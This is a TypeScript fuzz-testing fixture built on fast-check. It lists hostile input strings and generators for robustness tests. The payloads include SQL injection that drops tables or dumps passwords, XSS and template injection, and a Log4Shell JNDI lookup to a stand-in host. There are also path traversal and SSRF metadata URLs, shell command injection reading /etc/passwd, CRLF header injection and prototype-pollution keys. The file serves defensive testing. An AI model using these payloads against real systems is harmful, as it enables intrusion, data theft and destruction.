import fc from 'fast-check'

/** Printed with every failure; the same calls are made each time. */
export const SEED = 20_261_124

/** Values that have broken somebody else's service. */
export const PAYLOADS: readonly string[] = [
  "-34.6' OR '1'='1",
  '-34.6; DROP TABLE users;--',
  '1 UNION SELECT password FROM users--',
  '1)) OR pg_sleep(5)--',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}$' + '{7*7}<%= 7*7 %>#{7*7}',
  '$' + '{jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '; cat /etc/passwd',
  '| id',
  '`id`',
  'Rosario\u0000.nc',
  'Rosario\r\nx-injected: 1',
  'Rosario\r\n\r\n<html>',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  '{"$gt":""}',
  '[]',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  '9'.repeat(400),
  '-'.repeat(2_000),
  'A'.repeat(5_000),
  ','.repeat(3_000),
  `${'1,'.repeat(500)}1`,
  '\u202Egnirts\u202C',
  '\uFEFF\u200B\u2028\u2029',
  'I\u0307\u0131\u017F\uFB03',
  `${'a\u0301'.repeat(1_000)}`,
  '\uD800',
  '%00%0a%0d',
  '*',
  '',
]

/** A payload, or any text at all. */
export const hostileValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.double().map(String) },
)

/** Names no endpoint has, and names that mean something to JavaScript or to somebody's parser. */
export const hostileName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    '__proto__[polluted]',
    'constructor',
    'constructor.prototype.polluted',
    'prototype',
    'hasOwnProperty',
    'lat[]',
    'lat[$ne]',
    'LAT',
    ' lat',
    'lat\u0000',
    '',
    'x'.repeat(1_000),
    '<script>',
    'options.__proto__',
    'options.',
    '_method',
    'callback',
    'debug',
    'admin',
  ),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
)
